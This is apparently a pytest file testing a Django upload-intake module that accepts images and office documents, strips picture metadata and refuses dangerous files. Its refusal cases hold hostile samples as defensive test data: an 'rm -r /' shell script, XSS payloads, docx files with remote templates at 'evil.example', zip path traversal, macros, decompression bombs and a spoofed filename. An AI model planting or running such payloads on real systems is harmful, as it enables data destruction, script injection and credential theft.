"""What gets in, what of it is kept, and what is refused with which sentence."""

from __future__ import annotations

import io
import random
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.test import override_settings
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from yaodian.foundation.files import limits
from yaodian.foundation.files.kinds import KINDS, sniff
from yaodian.foundation.files.taking import FOUND, SENTENCES, TakenFile, UnableToTakeFile, clean_name, take_file
from yaodian.foundation.files.tests import making

pytestmark = pytest.mark.once

TRACES = (b"SECRET-OWNER", "SECRET-OWNER".encode("utf-16-le"), b"2026:03:02", b"Exif", b"http://ns.adobe.com")


def take(name: str, data: bytes, **options: Any) -> TakenFile:
    return take_file(
        name=name, chunks=[data[start : start + 70_000] for start in range(0, len(data), 70_000)], **options
    )


def refusal(name: str, data: bytes) -> UnableToTakeFile:
    with pytest.raises(UnableToTakeFile) as caught:
        take(name, data)
    return caught.value


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("现场.JPG", making.photograph(), "jpeg"),
        ("截图.png", making.png(), "png"),
        ("照片.webp", making.webp(), "webp"),
        ("照片.webp", making.picture("WEBP", lossless=True), "webp"),
        ("通知.pdf", making.pdf(), "pdf"),
        ("报告.docx", making.docx(), "docx"),
        ("台账.xlsx", making.xlsx(), "xlsx"),
        ("公文.ofd", making.ofd(), "ofd"),
        ("说明.txt", "整改完成。\n".encode(), "text"),
        ("名册.csv", "学校,人数\n".encode("gb18030"), "text"),
        ("BM.csv", b"BM,MZ\n1,2\n", "text"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_allowed_gets_in_as_what_it_is(name: str, data: bytes, kind: str) -> None:
    taken = take(name, data)
    assert (taken.kind, taken.name, taken.media_type) == (kind, name, KINDS[kind].media_type)
    assert taken.is_picture == bool(taken.thumbnail)
    if not taken.is_picture:
        assert taken.data == data
        assert taken.sha256 == taken.received_sha256


@pytest.mark.parametrize(
    ("name", "data"), [("a.jpg", making.photograph()), ("a.png", making.png()), ("a.webp", making.webp())]
)
def test_nothing_of_a_picture_stays_but_its_pixels(name: str, data: bytes) -> None:
    assert any(trace in data for trace in TRACES)
    taken = take(name, data)
    assert taken.is_stripped
    assert (taken.place, taken.taken) == (None, "")
    for kept in (taken.data, taken.thumbnail):
        assert [trace for trace in TRACES if trace in kept] == []
        image = Image.open(io.BytesIO(kept))
        assert dict(image.getexif()) == {}
        assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density", "loop", "background"}
    assert (taken.width, taken.height) == (64, 40)
    red, _, blue = Image.open(io.BytesIO(taken.data)).convert("RGB").getpixel((5, 20))
    assert red > 200
    assert blue < 60


def test_a_picture_is_turned_as_the_camera_held_it() -> None:
    # 6: the top of the scene is the right side of the picture.
    taken = take("a.jpg", making.photograph(orientation=6))
    assert (taken.width, taken.height) == (40, 64)
    image = Image.open(io.BytesIO(taken.data)).convert("RGB")
    assert image.size == (40, 64)
    assert image.getpixel((20, 5))[0] > 200
    assert image.getpixel((20, 58))[2] > 200


@pytest.mark.parametrize("orientation", range(1, 9))
def test_every_orientation_is_as_the_library_turns_it(orientation: int) -> None:
    from PIL import ImageOps

    data = making.photograph(orientation=orientation)
    expected = ImageOps.exif_transpose(Image.open(io.BytesIO(data))).convert("L")
    kept = Image.open(io.BytesIO(take("a.jpg", data).data)).convert("L")
    assert kept.size == expected.size
    differences = [abs(one - other) for one, other in zip(kept.tobytes(), expected.tobytes(), strict=True)]
    assert max(differences) < 40


@pytest.mark.parametrize("place", [making.PLACE, (-33.5, -70.25)])
def test_a_photograph_that_must_prove_its_place_keeps_place_and_time_and_nothing_else(
    place: tuple[float, float],
) -> None:
    taken = take("a.jpg", making.photograph(place=place), keeps_place=True)
    assert not taken.is_stripped
    assert taken.place == pytest.approx(place, abs=1e-4)
    assert taken.taken == "2026:03:02 09:30:00"
    assert b"SECRET-OWNER" not in taken.data
    again = take("a.jpg", taken.data, keeps_place=True)
    assert (again.place, again.taken) == (taken.place, taken.taken)


def test_a_photograph_without_a_place_says_none() -> None:
    assert take("a.jpg", making.picture("JPEG"), keeps_place=True).place is None
    assert take("a.jpg", making.photograph(place=(0.0, 0.0)), keeps_place=True).place is None


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_a_png_of_any_mode_keeps_its_pixels(mode: str) -> None:
    image = Image.new("I;16", (30, 20), 4000) if mode == "I;16" else making.gradient((30, 20), mode)
    taken = take("a.png", making.picture("PNG", image))
    assert (
        Image.open(io.BytesIO(taken.data)).tobytes() == Image.open(io.BytesIO(making.picture("PNG", image))).tobytes()
    )


def test_a_jpeg_for_printing_becomes_one_for_screens() -> None:
    taken = take("a.jpg", making.picture("JPEG", making.gradient(mode="CMYK")))
    assert Image.open(io.BytesIO(taken.data)).mode == "RGB"


def test_a_small_picture_is_bounded() -> None:
    noise = Image.frombytes("RGB", (1200, 900), random.Random(1).randbytes(1200 * 900 * 3))
    taken = take("a.png", making.picture("PNG", noise, compress_level=1))
    small = Image.open(io.BytesIO(taken.thumbnail))
    assert small.size == (480, 360)
    assert len(taken.thumbnail) <= limits.THUMBNAIL_BYTES


def moving(form: str) -> bytes:
    return making.picture(
        form, making.gradient(), save_all=True, append_images=[making.gradient().rotate(90)], duration=100
    )


def chunk(kind: bytes, data: bytes) -> bytes:
    import zlib

    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def flood(side: int) -> bytes:
    """A PNG of a few bytes that says it is huge."""
    head = side.to_bytes(4, "big") * 2 + b"\x08\x02\0\0\0"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", b"x\x9cc") + chunk(b"IEND", b"")


REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="{}" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("a.jpg", b"", "empty"),
        ("a.pdf", making.picture("PNG"), "wrong-suffix"),
        ("a.jpg", making.picture("WEBP"), "wrong-suffix"),
        ("a.docx", making.xlsx(), "wrong-suffix"),
        ("a.exe", making.pdf(), "wrong-suffix"),
        ("报告.pdf.exe", b"MZ\x90\0" + bytes(200), "program"),
        ("照片.jpg", b"MZ\x90\0" + bytes(200), "program"),
        ("a.txt", b"\x7fELF\x02\x01\x01\0" + bytes(200), "program"),
        ("a.txt", b"#!/bin/sh\nrm -r /\n", "program"),
        ("a.txt", b"\xef\xbb\xbf  <html><script>alert(1)</script>", "page"),
        ("a.png", b"<svg onload='alert(1)'/>", "page"),
        ("a.gif", making.picture("GIF"), "gif"),
        ("a.bmp", making.picture("BMP"), "picture-kind"),
        ("a.heic", b"\0\0\0\x18ftypheic" + bytes(40), "heic"),
        ("a.jpg", b"\0\0\0\x18ftypmif1" + bytes(40), "heic"),
        ("a.mp4", b"\0\0\0\x18ftypisom" + bytes(40), "sound"),
        ("a.zip", making.archive({"a.txt": "x"}), "packed"),
        ("a.rar", b"Rar!\x1a\x07\0" + bytes(20), "packed"),
        ("a.docx", making.archive({"word/document.xml": "x", "xl/workbook.xml": "x"}), "packed"),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old-office"),
        (
            "a.docx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes((1 << 20) - 20) + "EncryptedPackage".encode("utf-16-le"),
            "locked",
        ),
        ("a.pdf", making.pdf(is_locked=True), "locked"),
        ("a.pdf", b"%PDF-1.7\nno document at all", "broken"),
        ("a.docx", making.docx()[:-30], "broken"),
        ("a.docx", making.docx(**{"../evil.xml": "x"}), "broken"),
        ("a.docx", making.docx(**{"word/vbaProject.bin": "x"}), "macros"),
        ("a.docx", making.docx(**{"word/embeddings/a.bin": b"MZ\x90\0"}), "program-inside"),
        ("a.docx", making.docx(**{"word/_rels/settings.xml.rels": REMOTE.format("https://evil.example/a")}), "remote"),
        ("a.docx", making.docx(**{"word/_rels/settings.xml.rels": REMOTE.format("\\\\evil\\a.dotm")}), "remote"),
        ("a.docx", making.docx(**{"word/_rels/a.rels": REMOTE.format("&#104;ttp://evil.example/a")}), "remote"),
        ("a.docx", making.docx(**{"word/_rels/a.rels": REMOTE.format("//evil/a").replace('"', "'")}), "remote"),
        (
            "a.docx",
            making.docx(**{"word/_rels/a.rels": REMOTE.format("https://evil.example").encode("utf-16")}),
            "remote",
        ),
        ("a.docx", making.docx(**{"word/_rels/a.rels": "<!DOCTYPE a [<!ENTITY e 'x'>]><a/>"}), "broken"),
        ("a.docx", making.docx(**{"word/_rels/a.rels": "<Relationships"}), "broken"),
        ("a.docx", making.docx(**{"word/media/a.xml": bytes(limits.MEGABYTE * 40)}), "bomb"),
        ("a.jpg", making.photograph()[:400], "broken"),
        ("a.png", making.png()[:60], "broken"),
        ("a.png", flood(9_000), "too-many-pixels"),
        ("a.png", flood(2**31 - 1), "too-many-pixels"),
        ("a.webp", moving("WEBP"), "moving"),
        ("a.png", moving("PNG"), "moving"),
        ("a.txt", bytes(range(1, 32)), "unknown"),
        ("a.dat", b"\x93\xff\xfe\x81" * 20, "unknown"),
        ("a.pdf", b"plain words", "wrong-suffix"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_not_allowed_is_refused_with_a_sentence(name: str, data: bytes, code: str) -> None:
    error = refusal(name, data)
    assert (error.code, error.status) == (code, 422)
    assert "请" in error.message
    assert "%(" not in error.message


def test_a_template_on_the_writers_own_disk_is_no_reason_to_refuse() -> None:
    rels = REMOTE.format("file:///C:\\Users\\a\\Normal.dotm")
    assert take("a.docx", making.docx(**{"word/_rels/settings.xml.rels": rels})).kind == "docx"


@override_settings(EVIDENCE_MAX_BYTES=1000)
def test_a_file_that_is_too_large_is_refused_before_it_is_whole() -> None:
    def endless() -> Any:
        while True:
            yield bytes(600)

    with pytest.raises(UnableToTakeFile, match="超过 0 MB"):
        take_file(name="a.txt", chunks=endless())


def test_a_locked_archive_is_refused() -> None:
    data = bytearray(making.docx())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as packed:
        start = packed.infolist()[0].header_offset
    central = data.find(b"PK\x01\x02")
    data[start + 6] |= 1
    data[central + 8] |= 1
    assert refusal("a.docx", bytes(data)).code == "locked"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("C:\\用户\\照片.jpg", "照片.jpg"),
        ("../../etc/passwd", "passwd"),
        ("报告\u202egpj.exe", "报告gpj.exe"),
        ("a\0b\n.jpg", "ab.jpg"),
        ("..", "附件"),
        ("", "附件"),
        ("长" * 300 + ".docx", "长" * 115 + ".docx"),
    ],
)
def test_a_name_is_a_name_and_nothing_else(name: str, expected: str) -> None:
    assert clean_name(name) == expected


def test_a_name_without_an_ending_gets_the_right_one() -> None:
    assert take("照片", making.picture("PNG")).name == "照片.png"


@given(name=st.text(max_size=300))
def test_a_clean_name_stays_clean(name: str) -> None:
    once = clean_name(name)
    assert clean_name(once) == once
    assert 0 < len(once) <= limits.NAME_CHARACTERS
    assert not set(once) & set('/\\\0\n\r"')


@given(head=st.binary(max_size=64))
def test_any_bytes_are_something_that_has_a_sentence_or_is_looked_at(head: bytes) -> None:
    assert sniff(head) in {*SENTENCES, *KINDS, "archive", "ole"}


def test_every_kind_has_words() -> None:
    assert set(FOUND) == set(KINDS)


def test_a_picture_damaged_anywhere_is_refused_or_clean() -> None:
    data, dice, refused = making.photograph(), random.Random(5), []
    for _turn in range(12):
        damaged = bytearray(data)
        for _place in range(6):
            damaged[dice.randrange(2, len(damaged))] = dice.randrange(256)
        try:
            taken = take("a.jpg", bytes(damaged))
        except UnableToTakeFile as error:
            refused.append(error.code)
        else:
            assert b"SECRET-OWNER" not in taken.data
    assert set(refused) <= {"broken", "unknown", "too-many-pixels"}


def test_nothing_is_left_open() -> None:
    def descriptors() -> list[str]:
        return sorted(path.name for path in Path("/proc/self/fd").iterdir())

    before = descriptors()
    take("a.png", making.picture("PNG"))
    refusal("a.pdf", making.pdf(is_locked=True))
    assert descriptors() == before
